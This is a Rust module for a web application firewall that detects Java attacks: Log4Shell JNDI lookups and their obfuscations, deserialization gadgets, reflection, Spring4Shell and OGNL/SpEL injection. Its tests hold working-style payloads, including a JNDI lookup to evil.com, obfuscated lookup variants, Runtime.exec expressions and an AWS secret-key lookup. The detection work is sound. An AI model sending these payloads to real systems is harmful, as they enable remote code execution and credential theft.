//! Java attacks: JNDI lookups (Log4Shell) with their nested-lookup obfuscation, serialised
//! Java objects and deserialisation gadgets, Java class names and reflection chains,
//! Spring4Shell class-loader manipulation, OGNL/SpEL/EL expression injection and JSP uploads
//! (CRS 944xxx territory).
//!
//! One Aho-Corasick pass over each value finds every anchor; values with none (nearly all
//! benign ones) cost that pass only.

use base64::Engine as _;
use regex::Regex;

use super::generic::{hit, is_raw_body, looks_like_markup, markup_text};
use super::{Family, Literals, RequestContext, RuleHit, Value};
use crate::{category, Severity};

/// Values longer than this are only searched in their first this-many bytes by the lookup
/// resolver (the anchor pass still sees everything).
const MAX_RESOLVE_INPUT: usize = 16 * 1024;
/// Nested `${...}` lookups resolved per value at most.
const MAX_RESOLVE_ROUNDS: usize = 64;

const CLASSES: &str = include_str!("../../data/rules/java-classes.txt");
const GADGETS: &str = include_str!("../../data/rules/java-gadgets.txt");

/// Log4j lookup prefixes: what follows `${` in a lookup (as opposed to a plain `${var}`).
const LOG4J_PREFIXES: &[&str] = &[
    "jndi:",
    "lower:",
    "upper:",
    "::-",
    "env:",
    "sys:",
    "date:",
    "main:",
    "ctx:",
    "java:",
    "jvmrunargs:",
    "k8s:",
    "docker:",
    "spring:",
    "bundle:",
    "web:",
    "log4j:",
    "marker:",
    "sd:",
    "map:",
    "event:",
    "base64:",
];

/// Keywords whose base64 forms CRS 944300 looks for (gadget names and the classes they reach).
const B64_KEYWORDS: &[&str] = &[
    "runtime",
    "processbuilder",
    "clonetransformer",
    "forclosure",
    "instantiatefactory",
    "instantiatetransformer",
    "invokertransformer",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "whileclosure",
    "java.lang",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Anchor {
    Lookup,
    Serialized,
    Class(u8),
    Gadget,
    Runtime,
    Reflection,
    ClassLoader,
    Expression,
    Jsp,
}

/// The Java rule family. Build once with [`families`].
#[derive(Debug)]
pub struct JavaFamily {
    anchors: Literals,
    anchor_kinds: Vec<Anchor>,
    b64: Literals,
    runtime: Regex,
    reflection: Regex,
    classloader: Regex,
    expression: Regex,
    serialized: Regex,
    nested: Regex,
    jndi_url: Regex,
}

/// Every family this module provides.
pub fn families() -> Vec<Box<dyn Family>> {
    vec![Box::new(JavaFamily::new())]
}

impl Default for JavaFamily {
    fn default() -> Self {
        Self::new()
    }
}

impl JavaFamily {
    /// Compiles the phrase lists and regexes (built-in, so they always compile).
    pub fn new() -> Self {
        let mut pats: Vec<String> = Vec::new();
        let mut kinds = Vec::new();
        let mut add = |p: &str, k: Anchor| {
            pats.push(p.to_string());
            kinds.push(k);
        };
        for p in ["${", "$&lbrace", "$&lcub", "&dollar;{", "&#", "jndi"] {
            add(p, Anchor::Lookup);
        }
        for p in ["ro0ab", "kztaau", "cs7qaf", "aced0005", "\u{ac}\u{ed}"] {
            add(p, Anchor::Serialized);
        }
        for line in CLASSES.lines().filter(|l| !l.starts_with('#')) {
            if let Some((pl, name)) = line.trim().split_once(' ') {
                add(name.trim(), Anchor::Class(pl.parse().unwrap_or(2)));
            }
        }
        for g in GADGETS
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty() && !l.starts_with('#'))
        {
            add(g, Anchor::Gadget);
        }
        for p in ["runtime", "processbuilder"] {
            add(p, Anchor::Runtime);
        }
        for p in [
            "forname",
            "getruntime",
            "getdeclared",
            "getclassloader",
            "defineclass",
            "getenginebyname",
            "setaccessible",
            "getclass",
            "applicationcontext",
        ] {
            add(p, Anchor::Reflection);
        }
        add("classloader", Anchor::ClassLoader);
        for p in [
            "#_memberaccess",
            "ognl",
            "@java.",
            "#context",
            "(#",
            "t(",
            "t (",
            "#{",
            "new java.",
        ] {
            add(p, Anchor::Expression);
        }
        add("jsp", Anchor::Jsp);
        let anchors = Literals::new(&pats, true);

        let mut frags = Vec::new();
        for kw in B64_KEYWORDS {
            let cap = capitalize(kw);
            for word in [kw.to_string(), cap] {
                for off in 0..3 {
                    if let Some(f) = base64_fragment(word.as_bytes(), off) {
                        frags.push(f);
                    }
                }
            }
        }
        frags.sort();
        frags.dedup();
        let b64 = Literals::new(&frags, false);

        let re = |s: &str| Regex::new(&super::ascii_boundaries(s)).expect("java regex compiles");
        Self {
            anchors,
            anchor_kinds: kinds,
            b64,
            runtime: re(
                r"(?i)\bjava\b(?:\s*\.\s*[\w$]+){0,5}?\s*\.\s*(?:runtime|processbuilder)\b",
            ),
            reflection: re(
                r"(?i)\b(?:getruntime|forname|getdeclared(?:method|constructor|field)s?|getclassloader|defineclass|getenginebyname|setaccessible)\s*\(|\.getclass\s*\(\s*\)\s*\.\s*\w|\b(?:filesystem|classpath)xmlapplicationcontext\b",
            ),
            classloader: re(
                r"(?i)\bclass\s*(?:\.\s*module\s*)?(?:\.\s*|\[\s*['\x22]?)classloader\b|\bclassloader\s*\.\s*(?:resources|urls|parent|defineclass)|\.classloader\.",
            ),
            expression: re(concat!(
                r"(?i)#_memberaccess|@ognl\.ognlcontext@|#context\s*\[|%\{\s*\(#|\(#\w+\s*=|@java\.(?:lang|io|util|net)\.",
                r"|(?-i:\bT\s*\(\s*java\.)|\bnew\s+java\.(?:lang|io|util|net)\.",
                r"|[#$]\{[^}]{0,200}?(?:getclass|forname|runtime|processbuilder|\bexec\s*\(|(?-i:\bT\s*\())",
            )),
            serialized: re(r"rO0AB|KztAAU|Cs7QAF|(?i:aced0005)|\x{ac}\x{ed}\x00?\x05"),
            jndi_url: re(r"(?i)\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:\s*/"),
            nested: re(&format!(
                r"(?i)\$\{{[^}}]{{0,64}}\$\{{(?:{})",
                LOG4J_PREFIXES
                    .iter()
                    .map(|p| regex::escape(p))
                    .collect::<Vec<_>>()
                    .join("|")
            )),
        }
    }

    fn check_text(&self, v: &Value<'_>, text: &str, spans: bool, out: &mut Vec<RuleHit>) {
        let mut seen = [false; 10];
        let mut class_pl: Option<(u8, usize, usize)> = None;
        self.anchors
            .for_each_match(text.as_bytes(), |p, start, end| {
                let m = (p, start, end);
                let kind = self.anchor_kinds[m.0];
                let slot = match kind {
                    Anchor::Lookup => 0,
                    Anchor::Serialized => 1,
                    Anchor::Class(pl) => {
                        if class_pl.is_none_or(|(p, _, _)| pl < p) {
                            class_pl = Some((pl, m.1, m.2));
                        }
                        2
                    }
                    Anchor::Gadget => {
                        if !seen[3] {
                            out.push(hit(
                                "java.gadget_class",
                                category::DESERIALIZATION,
                                Severity::Critical,
                                1,
                                span_if(spans, m.1..m.2),
                            ));
                        }
                        3
                    }
                    Anchor::Runtime => 4,
                    Anchor::Reflection => 5,
                    Anchor::ClassLoader => 6,
                    Anchor::Expression => 7,
                    Anchor::Jsp => 8,
                };
                seen[slot] = true;
            });
        if seen[0] {
            self.check_lookups(text, spans, out);
        }
        if seen[1] {
            if let Some(m) = self.serialized.find(text) {
                out.push(hit(
                    "java.serialized_object",
                    category::DESERIALIZATION,
                    Severity::Critical,
                    1,
                    span_if(spans, m.range()),
                ));
            }
        }
        if let Some((pl, s, e)) = class_pl {
            out.push(hit(
                "java.class_name",
                category::COMMAND_INJECTION,
                Severity::Critical,
                pl,
                span_if(spans, s..e),
            ));
        }
        if seen[4] {
            if let Some(m) = self.runtime.find(text) {
                out.push(hit(
                    "java.runtime_class",
                    category::COMMAND_INJECTION,
                    Severity::Critical,
                    1,
                    span_if(spans, m.range()),
                ));
            }
        }
        if seen[5] {
            if let Some(m) = self.reflection.find(text) {
                out.push(hit(
                    "java.reflection_call",
                    category::COMMAND_INJECTION,
                    Severity::Critical,
                    1,
                    span_if(spans, m.range()),
                ));
            }
        }
        if seen[6] || contains_ci(v.key, "classloader") {
            let found = self
                .classloader
                .find(text)
                .map(|m| span_if(spans, m.range()))
                .or_else(|| self.classloader.is_match(v.key).then_some(0..0));
            if let Some(span) = found {
                out.push(hit(
                    "java.classloader_manipulation",
                    category::COMMAND_INJECTION,
                    Severity::Critical,
                    1,
                    span,
                ));
            }
        }
        if seen[7] {
            if let Some(m) = self.expression.find(text) {
                out.push(hit(
                    "java.expression_injection",
                    category::SSTI,
                    Severity::Critical,
                    1,
                    span_if(spans, m.range()),
                ));
            }
        }
        if seen[8] && is_upload_name(v.key) && is_jsp_name(text) {
            out.push(hit(
                "java.jsp_upload",
                category::COMMAND_INJECTION,
                Severity::Critical,
                1,
                span_if(spans, 0..text.len()),
            ));
        }
        if text.len() >= 8 {
            if let Some((_, start, end)) = self.b64.find(text.as_bytes()) {
                out.push(hit(
                    "java.base64_keyword",
                    category::DESERIALIZATION,
                    Severity::Critical,
                    3,
                    span_if(spans, start..end),
                ));
            }
        }
    }

    fn check_lookups(&self, text: &str, spans: bool, out: &mut Vec<RuleHit>) {
        let start = text.find('$').unwrap_or(0);
        let span = span_if(spans, start..(start + 48).min(text.len()));
        let span = clamp_to_char(text, span);
        if jndi_resolves(text) {
            out.push(hit(
                "java.jndi_lookup",
                category::JNDI,
                Severity::Critical,
                1,
                span,
            ));
            return;
        }
        // A JNDI URL whose `${` a decoder mangled or an attacker split: nothing else sends
        // `jndi:ldap://`.
        if let Some(m) = self.jndi_url.find(text) {
            out.push(hit(
                "java.jndi_url",
                category::JNDI,
                Severity::Critical,
                1,
                span_if(spans, m.range()),
            ));
            return;
        }
        if self.nested.is_match(text) {
            out.push(hit(
                "java.log4j_nested_lookup",
                category::JNDI,
                Severity::Critical,
                1,
                span,
            ));
            return;
        }
        // `${` spelled with HTML entities that survived decoding: only evasion does that.
        let lower_raw = text.to_ascii_lowercase();
        if ["$&lbrace", "$&lcub", "&dollar;{", "&dollar;&l"]
            .iter()
            .any(|e| lower_raw.contains(e))
        {
            out.push(hit(
                "java.log4j_evasion",
                category::JNDI,
                Severity::Critical,
                2,
                span,
            ));
            return;
        }
        let lower = prepare_lookup_text(text);
        if LOG4J_PREFIXES
            .iter()
            .any(|p| lower.contains(&format!("${{{p}")))
        {
            out.push(hit(
                "java.log4j_lookup",
                category::JNDI,
                Severity::Critical,
                2,
                span,
            ));
        }
    }
}

impl Family for JavaFamily {
    fn check(&self, v: &Value<'_>, ctx: &RequestContext<'_>, out: &mut Vec<RuleHit>) {
        if v.decoded.len() < 4 && v.key.len() < 4 {
            return;
        }
        // A raw XML body: element and attribute *names* are the schema, not input; look at
        // text and attribute values only (CRS's XML body processor does the same).
        if is_raw_body(v) && looks_like_markup(v.decoded, ctx) {
            let text = markup_text(v.decoded);
            self.check_text(v, &text, false, out);
        } else {
            self.check_text(v, v.decoded, true, out);
        }
    }
}

fn contains_ci(hay: &str, needle: &str) -> bool {
    hay.len() >= needle.len()
        && hay
            .as_bytes()
            .windows(needle.len())
            .any(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
}

fn span_if(spans: bool, r: std::ops::Range<usize>) -> std::ops::Range<usize> {
    if spans {
        r
    } else {
        0..0
    }
}

fn clamp_to_char(text: &str, r: std::ops::Range<usize>) -> std::ops::Range<usize> {
    let mut end = r.end.min(text.len());
    while end > r.start && !text.is_char_boundary(end) {
        end -= 1;
    }
    r.start..end
}

fn capitalize(s: &str) -> String {
    let mut c = s.chars();
    match c.next() {
        Some(f) => f.to_ascii_uppercase().to_string() + c.as_str(),
        None => String::new(),
    }
}

/// The base64 characters that encode `word` and nothing else when it starts `offset` bytes
/// (0–2) into a base64 block: what a base64 value containing `word` must contain.
fn base64_fragment(word: &[u8], offset: usize) -> Option<String> {
    let mut buf = vec![0u8; offset];
    buf.extend_from_slice(word);
    buf.extend_from_slice(&[0, 0, 0]);
    let enc = base64::engine::general_purpose::STANDARD_NO_PAD.encode(&buf);
    let first_bit = offset * 8;
    let last_bit = (offset + word.len()) * 8;
    let start = first_bit.div_ceil(6);
    let end = last_bit / 6;
    (end > start + 5).then(|| enc[start..end].to_string())
}

/// Whether a field name says the value is an uploaded file's name.
fn is_upload_name(key: &str) -> bool {
    if key.ends_with(crate::placement::FILENAME_SUFFIX) {
        // A multipart file name, whatever the part is called.
        return true;
    }
    let k = key.to_ascii_lowercase();
    k.contains("file") || k.contains("upload") || k.contains("attachment")
}

/// A JSP/JSPX file name (trailing dots and spaces are dropped by Windows file systems).
fn is_jsp_name(v: &str) -> bool {
    let t: String = v
        .trim_end_matches(['.', ' ', '"', '\''])
        .chars()
        .filter(|c| !c.is_whitespace())
        .flat_map(char::to_lowercase)
        .collect();
    t.ends_with(".jsp") || t.ends_with(".jspx") || t.ends_with(".jspf")
}

/// Lower-cases and turns the HTML-entity spellings of `$`, `{` and `}` that survive decoding
/// (named entities without `;`) into the characters.
fn prepare_lookup_text(text: &str) -> String {
    let cut = floor_char(text, MAX_RESOLVE_INPUT);
    let mut s = text[..cut].to_ascii_lowercase();
    if s.contains("&#") {
        s = numeric_braces(&s);
    }
    for (from, to) in [
        ("&dollar;", "$"),
        ("&dollar", "$"),
        ("&lbrace;", "{"),
        ("&lbrace", "{"),
        ("&lcub;", "{"),
        ("&lcub", "{"),
        ("&rbrace;", "}"),
        ("&rbrace", "}"),
        ("&rcub;", "}"),
        ("&rcub", "}"),
    ] {
        if s.contains(from) {
            s = s.replace(from, to);
        }
    }
    s
}

/// Decodes the numeric character references of `$`, `{` and `}` (any number of leading
/// zeros, with or without `;`) that a decoder with a digit limit leaves behind.
fn numeric_braces(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find("&#") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        let (hex, digits_at) = match after.strip_prefix('x') {
            Some(_) => (true, 1),
            None => (false, 0),
        };
        let digits = &after[digits_at..];
        let n = digits
            .bytes()
            .take_while(|b| {
                if hex {
                    b.is_ascii_hexdigit()
                } else {
                    b.is_ascii_digit()
                }
            })
            .count();
        let value = digits[..n].trim_start_matches('0');
        let code = if value.len() > 6 {
            None
        } else if value.is_empty() {
            Some(0)
        } else {
            u32::from_str_radix(value, if hex { 16 } else { 10 }).ok()
        };
        match code
            .and_then(char::from_u32)
            .filter(|c| matches!(c, '$' | '{' | '}'))
        {
            Some(c) if n > 0 => {
                out.push(c);
                let mut consumed = 2 + digits_at + n;
                if rest[i + consumed..].starts_with(';') {
                    consumed += 1;
                }
                rest = &rest[i + consumed..];
            }
            _ => {
                out.push_str("&#");
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

fn floor_char(text: &str, at: usize) -> usize {
    let mut i = at.min(text.len());
    while !text.is_char_boundary(i) {
        i -= 1;
    }
    i
}

/// Whether resolving Log4j's nested lookups (`${lower:j}`, `${::-j}`, `${env:X:-j}`,
/// `${date:'j'}`...) innermost first ever produces a `${jndi:` lookup.
pub fn jndi_resolves(text: &str) -> bool {
    let mut s = prepare_lookup_text(text).into_bytes();
    if memchr::memmem::find(&s, b"${jndi:").is_some() {
        return true;
    }
    for _ in 0..MAX_RESOLVE_ROUNDS {
        let mut open = None;
        let mut found = None;
        let mut i = 0;
        while i < s.len() {
            if s[i] == b'$' && s.get(i + 1) == Some(&b'{') {
                open = Some(i);
                i += 2;
                continue;
            }
            if s[i] == b'}' {
                if let Some(o) = open {
                    found = Some((o, i));
                    break;
                }
            }
            i += 1;
        }
        let Some((o, c)) = found else {
            return false;
        };
        let body = &s[o + 2..c];
        if body.starts_with(b"jndi:") {
            return true;
        }
        let repl = resolve_lookup(body);
        s.splice(o..=c, repl);
        if memchr::memmem::find(&s, b"${jndi:").is_some() {
            return true;
        }
    }
    false
}

/// What one lookup's body evaluates to, as far as an attacker controls it.
fn resolve_lookup(body: &[u8]) -> Vec<u8> {
    if let Some(i) = memchr::memmem::find(body, b":-") {
        return body[i + 2..].to_vec();
    }
    for p in [&b"lower:"[..], b"upper:"] {
        if let Some(rest) = body.strip_prefix(p) {
            return rest.to_vec();
        }
    }
    if let Some(rest) = body.strip_prefix(b"date:") {
        return rest.iter().copied().filter(|&b| b != b'\'').collect();
    }
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::*;

    static FAMS: std::sync::LazyLock<Vec<Box<dyn Family>>> = std::sync::LazyLock::new(families);
    use crate::rules::generic::test_support::{check_all, rules_of};

    fn rules(decoded: &str) -> Vec<&'static str> {
        rules_of(&FAMS, "q", decoded)
    }

    #[test]
    fn plain_jndi_lookup_is_critical() {
        let hits = check_all(&FAMS, "q", "${jndi:ldap://evil.com/a}");
        assert!(hits
            .iter()
            .any(|h| h.rule == "java.jndi_lookup" && h.severity == Severity::Critical));
    }

    #[test]
    fn obfuscated_jndi_lookups_resolve() {
        for p in [
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:FOO:-j}ndi:ldap://x/a}",
            "$${env:s:-${env:s:-$}{jndi:ldap://x/a}}}",
            "${${upper:J}${date:'n'}di:dns://x}",
            "$&lbrace;jndi:ldap://x/a}",
            "$&lbracejndi:ldap://x}",
            "${JNDI:LDAP://x}",
            "&#x24;&#000000000000000000000000000123;jndi:ldap://x/w}",
            "&#36&#123jndi:ldap://x/w}",
        ] {
            assert!(jndi_resolves(p), "{p}");
            assert!(rules(p).contains(&"java.jndi_lookup"), "{p}");
        }
    }

    #[test]
    fn mangled_lookup_still_names_a_jndi_url() {
        assert!(rules("$\u{fffd}jndi:ldap://evil/w}").contains(&"java.jndi_url"));
        assert!(rules("see the JNDI docs: naming").is_empty());
    }

    #[test]
    fn shell_and_template_variables_are_not_lookups() {
        for p in [
            "${HOME}/bin",
            "${price}",
            "${FOO:-${BAR}}",
            "Total: ${amount} USD",
        ] {
            assert!(rules(p).is_empty(), "{p}: {:?}", rules(p));
        }
    }

    #[test]
    fn standalone_log4j_lookup_is_paranoia_two() {
        let hits = check_all(&FAMS, "ua", "Mozilla ${env:AWS_SECRET_ACCESS_KEY}");
        let h = hits.iter().find(|h| h.rule == "java.log4j_lookup").unwrap();
        assert_eq!(h.paranoia, 2);
    }

    #[test]
    fn entity_spelled_lookup_is_evasion() {
        let hits = check_all(&FAMS, "foo", "$&lbracesomething}");
        let h = hits
            .iter()
            .find(|h| h.rule == "java.log4j_evasion")
            .unwrap();
        assert_eq!(h.paranoia, 2);
    }

    #[test]
    fn serialised_objects_and_gadgets() {
        assert!(
            rules("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ").contains(&"java.serialized_object")
        );
        assert!(rules("ACED0005737200").contains(&"java.serialized_object"));
        assert!(rules("x.InvokerTransformer").contains(&"java.gadget_class"));
        assert!(rules("ysoserial CommonsCollections5").contains(&"java.gadget_class"));
    }

    #[test]
    fn class_names_and_reflection() {
        assert!(rules("java.lang.Runtime").contains(&"java.class_name"));
        assert!(rules("java.evil.runtime").contains(&"java.runtime_class"));
        assert!(rules("x.getClass().forName('a')").contains(&"java.reflection_call"));
        assert!(rules("Runtime.getRuntime().exec('id')").contains(&"java.reflection_call"));
    }

    #[test]
    fn spring4shell_in_key_or_value() {
        let hits = check_all(
            &FAMS,
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "%{c2}i",
        );
        assert!(hits
            .iter()
            .any(|h| h.rule == "java.classloader_manipulation"));
    }

    #[test]
    fn expression_injection() {
        for p in [
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "#{''.getClass().forName('java.lang.Runtime')}",
            "@java.lang.Runtime@getRuntime()",
        ] {
            assert!(rules(p).contains(&"java.expression_injection"), "{p}");
        }
    }

    #[test]
    fn jsp_upload_needs_a_file_name_field() {
        assert!(rules_of(&FAMS, "x-filename", "a.jspx..").contains(&"java.jsp_upload"));
        assert!(!rules_of(&FAMS, "page", "docs/index.jsp").contains(&"java.jsp_upload"));
        // A multipart file name, in a part of any name.
        assert!(rules_of(&FAMS, "avatar@filename", "shell.JSP ").contains(&"java.jsp_upload"));
        assert!(!rules_of(&FAMS, "avatar@filename", "me.png").contains(&"java.jsp_upload"));
    }

    #[test]
    fn base64_keywords_at_every_alignment() {
        let engine = base64::engine::general_purpose::STANDARD;
        for prefix in ["", "a", "ab"] {
            let enc = engine.encode(format!("{prefix}invokertransformer"));
            assert!(rules(&enc).contains(&"java.base64_keyword"), "{enc}");
        }
    }

    #[test]
    fn benign_look_alikes() {
        for p in [
            "javascript is fun",
            "The runtime was 5 minutes",
            "process builder pattern",
            "https://cdn.example.com/app.js",
            "Java developer, 5 years",
            "dGhpcyBpcyBmaW5l",
            "#{name}",
        ] {
            assert!(rules(p).is_empty(), "{p}: {:?}", rules(p));
        }
    }
}
